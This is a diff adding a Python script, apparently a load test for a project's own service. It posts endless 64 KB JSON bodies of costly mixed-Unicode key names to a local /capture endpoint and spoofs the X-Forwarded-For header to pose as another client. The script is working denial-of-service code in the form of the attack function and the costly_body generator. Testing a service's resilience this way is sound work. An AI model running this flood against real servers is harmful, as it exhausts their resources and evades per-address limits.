@@ -1,0 +1,44 @@
+"""Posts bodies that cost a lot to read, in a loop on one connection, until it is ended.
+
+Called with the port and the address that it says to come from. The bodies look alike and are all
+different, so that no cache knows their labels. Prints each answer's status.
+"""
+
+from __future__ import annotations
+
+import http.client
+import itertools
+import os
+import sys
+from contextlib import suppress
+
+BODY_BYTES_MAX = 64 * 1024
+
+
+def costly_body(start: int) -> bytes:
+    """The kind of which `./scripts/fuzz` finds the worst: many names of mixed letters."""
+    body, numbers = '{"data":{"email":"ann@example.com"', itertools.count(start)
+    while len(body) < BODY_BYTES_MAX - 100:
+        body += f',"@\\u0017\\u00c6name \\u1100\\u1161{next(numbers)}\\u00b2Aname k":0'
+    return (body + "}}").encode()
+
+
+def attack(port: int, address: str) -> None:
+    """Post for ever; what is refused unread is followed by the next, on a new connection."""
+    headers = {"Content-Type": "text/plain;charset=UTF-8", "X-Forwarded-For": address}
+    # Made before, so that making them does not slow down the loop.
+    bodies = [costly_body(10_000 * number + os.getpid()) for number in range(50)]
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    for body in itertools.cycle(bodies):
+        with suppress(BrokenPipeError, ConnectionResetError):  # answered before it is all sent
+            connection.request("POST", "/capture", body, headers)
+        try:
+            answer = connection.getresponse()
+            answer.read()
+            print(answer.status, flush=True)
+        except OSError:
+            connection.close()
+
+
+if __name__ == "__main__":
+    attack(int(sys.argv[1]), sys.argv[2])
